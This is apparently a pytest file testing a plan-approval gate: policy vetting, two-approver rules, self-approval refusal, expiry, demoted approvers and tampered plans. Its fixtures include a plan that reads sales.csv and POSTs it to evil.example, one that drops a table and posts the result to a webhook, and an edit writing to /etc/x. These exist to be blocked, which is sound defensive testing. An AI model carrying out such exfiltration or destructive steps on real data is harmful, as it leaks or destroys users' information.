"""Vetting use cases on a real SQLite store: decide, approve, reject, require_approved."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from sqlmodel import Session, select

from baton.services import Services
from baton.settings import Settings, UnknownUserError, User
from baton.usecases.approving import approve, reject
from baton.usecases.deciding import vet_version
from baton.usecases.gates import NotApprovedError, gate_state, require_approved
from executor.ledger import EventKind
from executor.store.plans import NewVersion
from executor.store.schema import PlanVersionRow
from planner.base import PlannerKind
from planner.plan import Plan
from planner.versions import VersionStatus
from policies.approval import ApprovalRefused, GateStatus, RefusalCode
from tests.support.policy_tools import policy_registry

ALICE = User(id="alice", roles=("analyst",))
BOB = User(id="bob", roles=("approver",))
CAROL = User(id="carol", roles=("approver",))
EVE = User(id="eve", roles=("analyst",))

WRITE_PLAN = {"goal": "copy the export", "steps": [
    {"id": "load", "tool": "files.read", "args": {"path": "sales.csv"}},
    {"id": "save", "tool": "files.write", "args": {"path": "copy.csv", "text": {"ref": "load.text"}}}]}
EXFIL_PLAN = {"goal": "send the export", "steps": [
    {"id": "load", "tool": "files.read", "args": {"path": "sales.csv"}},
    {"id": "send", "tool": "http.request", "args": {"method": "POST", "url": "https://evil.example/x",
                                                     "body": {"ref": "load.text"}}}]}
RISKY_PLAN = {"goal": "drop and announce", "steps": [
    {"id": "drop", "tool": "db.drop_table", "args": {"table": "old"}},
    {"id": "post", "tool": "http.request", "args": {"method": "POST", "url": "https://x.hooks.example.com/i",
                                                     "json": {"d": {"ref": "drop.value"}}}}]}


@pytest.fixture
def services(tmp_path):
    settings = Settings(data_dir=tmp_path / ".baton", approval_ttl_s=3600,
                        users={u.id: u for u in (ALICE, BOB, CAROL, EVE,
                                                 User(id="root", roles=("admin",)))})
    return Services(settings, registry=policy_registry(tmp_path / "ws"))


def store(services, document, requester="alice", plan_id=None):
    new = NewVersion(plan=Plan.model_validate(document), status=VersionStatus.VALIDATED,
                     planner=PlannerKind.FILE, created_by=requester)
    if plan_id is None:
        return services.plan_store.create_plan(document["goal"], requester, new)
    return services.plan_store.add_version(plan_id, new)


def test_write_plan_waits_for_an_approver_then_runs(services):
    version = store(services, WRITE_PLAN)
    decision = vet_version(services, version)
    assert decision.allow and decision.approvals.count == 1
    assert services.plan_store.get(version.plan_id).status is VersionStatus.PENDING_APPROVAL
    with pytest.raises(NotApprovedError):
        require_approved(services, version.plan_id)
    state = approve(services, version.plan_id, BOB, comment="looks fine")
    assert state.status is GateStatus.APPROVED
    assert require_approved(services, version.plan_id).status is VersionStatus.APPROVED
    kinds = [e.kind for e in services.ledger.events(subject=version.plan_id)]
    assert kinds == [EventKind.DECISION.value, EventKind.APPROVAL.value]


def test_decision_is_recorded_with_engine_and_bundle_hash(services):
    version = store(services, WRITE_PLAN)
    decision = vet_version(services, version)
    event = services.ledger.events(subject=version.plan_id, kinds=[EventKind.DECISION.value])[0]
    assert event.payload["engine"] == "embedded"
    assert event.payload["bundle_hash"] == decision.bundle_hash
    assert event.payload["decision"]["approvals"]["count"] == 1
    stored = services.approval_store.latest_decision(version.plan_id, 1)
    assert stored.decision == decision and stored.plan_hash == version.plan_hash


def test_denied_plan_cannot_be_approved(services):
    version = store(services, EXFIL_PLAN)
    decision = vet_version(services, version)
    assert not decision.allow
    assert services.plan_store.get(version.plan_id).status is VersionStatus.DENIED
    with pytest.raises(ApprovalRefused) as info:
        approve(services, version.plan_id, BOB)
    assert info.value.refusal is RefusalCode.DENIED_PLAN
    assert gate_state(services, version.plan_id).status is GateStatus.DENIED


def test_requester_cannot_approve_and_analyst_lacks_the_role(services):
    version = store(services, WRITE_PLAN)
    vet_version(services, version)
    with pytest.raises(ApprovalRefused, match="cannot approve"):
        approve(services, version.plan_id, ALICE)
    with pytest.raises(ApprovalRefused) as info:
        approve(services, version.plan_id, EVE)
    assert info.value.refusal is RefusalCode.WRONG_ROLE


def test_unknown_user_is_refused(services):
    version = store(services, WRITE_PLAN)
    vet_version(services, version)
    with pytest.raises(UnknownUserError):
        approve(services, version.plan_id, User(id="mallory", roles=("approver",)))


def test_high_risk_needs_two_distinct_approvers(services):
    version = store(services, RISKY_PLAN, requester="root")
    assert vet_version(services, version).approvals.count == 2
    assert approve(services, version.plan_id, BOB).status is GateStatus.PENDING
    with pytest.raises(ApprovalRefused) as info:
        approve(services, version.plan_id, BOB)
    assert info.value.refusal is RefusalCode.DOUBLE_APPROVAL
    assert approve(services, version.plan_id, CAROL).status is GateStatus.APPROVED
    require_approved(services, version.plan_id)


def test_rejection_ends_the_version_and_a_new_version_needs_new_approvals(services):
    version = store(services, WRITE_PLAN)
    vet_version(services, version)
    state = reject(services, version.plan_id, BOB, reason="copy to the archive instead")
    assert state.status is GateStatus.REJECTED
    assert services.plan_store.get(version.plan_id).status is VersionStatus.REJECTED
    with pytest.raises(ApprovalRefused) as info:
        approve(services, version.plan_id, CAROL)
    assert info.value.refusal is RefusalCode.ENDED_VERSION
    v2 = store(services, {**WRITE_PLAN, "goal": "copy v2"}, plan_id=version.plan_id)
    vet_version(services, v2)
    assert gate_state(services, version.plan_id).status is GateStatus.PENDING


def test_an_approver_who_revised_the_plan_cannot_approve_it(services):
    """Four eyes: bob wrote v2 (an approver's "request revision"), so someone else signs it off."""
    version = store(services, WRITE_PLAN)
    v2 = store(services, {**WRITE_PLAN, "goal": "copy, as bob rewrote it"}, requester="bob",
               plan_id=version.plan_id)
    vet_version(services, v2)
    with pytest.raises(ApprovalRefused) as info:
        approve(services, version.plan_id, BOB)
    assert info.value.refusal is RefusalCode.SELF_APPROVAL
    assert "bob wrote a version" in info.value.message
    assert approve(services, version.plan_id, CAROL).status is GateStatus.APPROVED


def test_an_approval_by_a_plan_author_recorded_earlier_does_not_count(services):
    """An approval stored before the rule existed (or by any other route) is not counted."""
    from policies.approval import ApprovalKind, ApprovalRecord

    version = store(services, WRITE_PLAN)
    v2 = store(services, {**WRITE_PLAN, "goal": "copy v2"}, requester="bob", plan_id=version.plan_id)
    vet_version(services, v2)
    now = datetime.now(UTC)
    services.approval_store.add(ApprovalRecord(
        plan_id=v2.plan_id, version=2, plan_hash=v2.plan_hash, actor="bob", kind=ApprovalKind.APPROVE,
        decided_at=now, expires_at=now + timedelta(hours=1)))
    state = gate_state(services, v2.plan_id)
    assert state.status is GateStatus.PENDING
    assert any("bob wrote a version of the plan" in r for r in state.reasons)
    services.plan_store.set_status(v2.plan_id, 2, VersionStatus.APPROVED)  # forced: still refused
    with pytest.raises(NotApprovedError, match="bob wrote a version"):
        require_approved(services, v2.plan_id)


def test_rejection_needs_a_reason(services):
    version = store(services, WRITE_PLAN)
    vet_version(services, version)
    with pytest.raises(Exception, match="reason"):
        reject(services, version.plan_id, BOB, reason="  ")


def test_stale_version_cannot_be_approved(services):
    version = store(services, WRITE_PLAN)
    vet_version(services, version)
    v2 = store(services, {**WRITE_PLAN, "goal": "copy again"}, plan_id=version.plan_id)
    vet_version(services, v2)
    with pytest.raises(ApprovalRefused) as info:
        approve(services, version.plan_id, BOB, version=1)
    assert info.value.refusal is RefusalCode.STALE_VERSION


def test_plan_edited_after_approval_may_not_run(services):
    version = store(services, WRITE_PLAN)
    vet_version(services, version)
    approve(services, version.plan_id, BOB)
    edited = {**WRITE_PLAN, "steps": [WRITE_PLAN["steps"][0], {**WRITE_PLAN["steps"][1],
                                                                "args": {"path": "/etc/x", "text": "y"}}]}
    with Session(services.engine) as session:
        row = session.exec(select(PlanVersionRow).where(PlanVersionRow.plan_id == version.plan_id)).one()
        row.plan_json = Plan.model_validate(edited).canonical_json()
        session.add(row)
        session.commit()
    with pytest.raises(NotApprovedError, match="changed"):
        require_approved(services, version.plan_id)


def test_expired_approval_no_longer_lets_the_plan_run(services):
    version = store(services, WRITE_PLAN)
    vet_version(services, version)
    approved_at = datetime.now(UTC)
    approve(services, version.plan_id, BOB, now=approved_at)
    require_approved(services, version.plan_id, now=approved_at + timedelta(minutes=30))
    with pytest.raises(NotApprovedError, match="no longer valid"):
        require_approved(services, version.plan_id, now=approved_at + timedelta(hours=2))


def test_read_only_plan_is_approved_by_policy_alone(services):
    version = store(services, {"goal": "read", "steps": [WRITE_PLAN["steps"][0]]})
    assert vet_version(services, version).approvals.count == 0
    assert require_approved(services, version.plan_id).version == 1


def reloaded(services, **user_changes) -> Services:
    """The same store seen through settings whose users changed (``None`` removes a user)."""
    users = {**services.settings.users, **user_changes}
    settings = services.settings.model_copy(
        update={"users": {k: v for k, v in users.items() if v is not None}})
    return Services(settings, registry=services.registry)


def test_plan_whose_only_approver_lost_the_role_may_not_run(services):
    version = store(services, WRITE_PLAN)
    vet_version(services, version)
    approve(services, version.plan_id, BOB)
    demoted = reloaded(services, bob=User(id="bob", roles=("analyst",)))
    assert gate_state(demoted, version.plan_id).status is GateStatus.PENDING
    with pytest.raises(NotApprovedError, match="bob no longer has role approver"):
        require_approved(demoted, version.plan_id)


def test_plan_whose_approver_was_removed_from_settings_may_not_run(services):
    version = store(services, WRITE_PLAN)
    vet_version(services, version)
    approve(services, version.plan_id, BOB)
    with pytest.raises(NotApprovedError, match="bob .*approver"):
        require_approved(reloaded(services, bob=None), version.plan_id)


def test_runtime_check_judges_an_endpoint_tool_by_its_fixed_host(services):
    from baton.usecases.runs import PolicyRuntimeCheck
    from executor.checks import StepCall as RunnerCall

    def runner_call(tool: str, args: dict) -> RunnerCall:
        return RunnerCall(run_id="r-1", plan_id="p-1", step_id="s", tool=tool, effect="write",
                          args=args, tags=("egress", "network"), region=None, requester="alice")

    check = PolicyRuntimeCheck(services)
    pushed = check.check_step(runner_call("crm.push", {"url": "https://api.internal.example/x"}))
    assert not pushed.allow
    assert "step s: host crm.vendor.example is not on the egress allowlist" in pushed.deny
    assert check.check_step(runner_call("crm.note", {"text": "hi"})).allow


# -- runs re-check the gate: resume, the worker, cancel -------------------------------------


def _workspace_file(services, name: str) -> None:
    workspace = services.settings.resolved_workspace
    workspace.mkdir(parents=True, exist_ok=True)
    (workspace / name).write_text("a,b\n")


def _approved_then_demoted(services):
    """A write plan bob approved; then settings in which bob is no longer an approver."""
    version = store(services, WRITE_PLAN)
    vet_version(services, version)
    approve(services, version.plan_id, BOB)
    return version, reloaded(services, bob=User(id="bob", roles=("analyst",)))


def test_resume_is_refused_when_the_approval_no_longer_counts_and_the_run_is_untouched(services):
    from baton.usecases.runs import resume_run, show_run, start_run
    from executor.records import RunStatus

    version, demoted = _approved_then_demoted(services)
    failed = start_run(services, version.plan_id, ALICE)  # sales.csv is missing: the read fails
    assert failed.status is RunStatus.FAILED
    _workspace_file(services, "sales.csv")
    events = len(services.ledger.events())
    with pytest.raises(NotApprovedError, match="bob no longer has role approver"):
        resume_run(demoted, failed.run_id, ALICE)
    assert show_run(services, failed.run_id).status is RunStatus.FAILED
    assert len(services.ledger.events()) == events  # nothing taken over, nothing recorded
    assert resume_run(services, failed.run_id, ALICE).status is RunStatus.SUCCEEDED


def test_the_worker_ends_a_queued_run_whose_approval_no_longer_counts(services):
    from baton.usecases.runs import run_worker, show_run, start_run
    from executor.records import RunStatus

    _workspace_file(services, "sales.csv")
    version, demoted = _approved_then_demoted(services)
    queued = start_run(services, version.plan_id, ALICE, detach=True)
    assert run_worker(demoted, once=True) == 1
    record = show_run(services, queued.run_id)
    assert record.status is RunStatus.FAILED
    assert "bob no longer has role approver" in record.error
    assert all(s.attempts == 0 for s in record.steps)  # no tool was called
    assert not (services.settings.resolved_workspace / "copy.csv").exists()
    end = services.ledger.events(subject=queued.run_id)[-1]
    assert end.kind == EventKind.RUN_END.value and end.payload["status"] == "failed"


def test_a_queued_run_whose_approval_lapsed_can_still_be_cancelled(services):
    from baton.usecases.runs import cancel_run, start_run
    from executor.records import RunStatus

    version, demoted = _approved_then_demoted(services)
    queued = start_run(services, version.plan_id, ALICE, detach=True)
    assert cancel_run(demoted, queued.run_id, ALICE).status is RunStatus.CANCELLED
